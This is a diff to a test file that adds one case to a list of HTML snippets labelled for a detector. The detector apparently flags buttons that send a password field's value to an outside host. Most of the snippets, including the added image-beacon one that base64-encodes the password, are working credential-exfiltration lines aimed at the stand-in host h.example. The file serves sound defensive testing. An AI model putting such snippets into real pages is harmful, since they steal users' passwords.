@@ -177,6 +177,7 @@ def test_links_that_save_what_they_hold_have_its_name():
     ("<input id=p type=password><button onclick=\"navigator.sendBeacon('//h.example/i',new Blob([p.value]))\">x</button>", True),
     ("<div contenteditable id=p style='-webkit-text-security:disc'></div>"
      "<button onclick=\"fetch('https://h.example/',{method:'POST',body:p.innerText})\">x</button>", True),
+    ("<input id=p type=password><button onclick=\"(new Image).src='https://h.example/t.gif?d='+btoa(p.value)\">x</button>", True),
     ("<form id=f><input name=p type=password></form><button onclick=\"x=new XMLHttpRequest;x.open('POST','https://h.example/');x.send("
      "new FormData(f))\">x</button>", True),
     ("<input id=p type=password><button onclick=\"fetch('https://h.example/count',{body:'pressed'})\">x</button>", False),
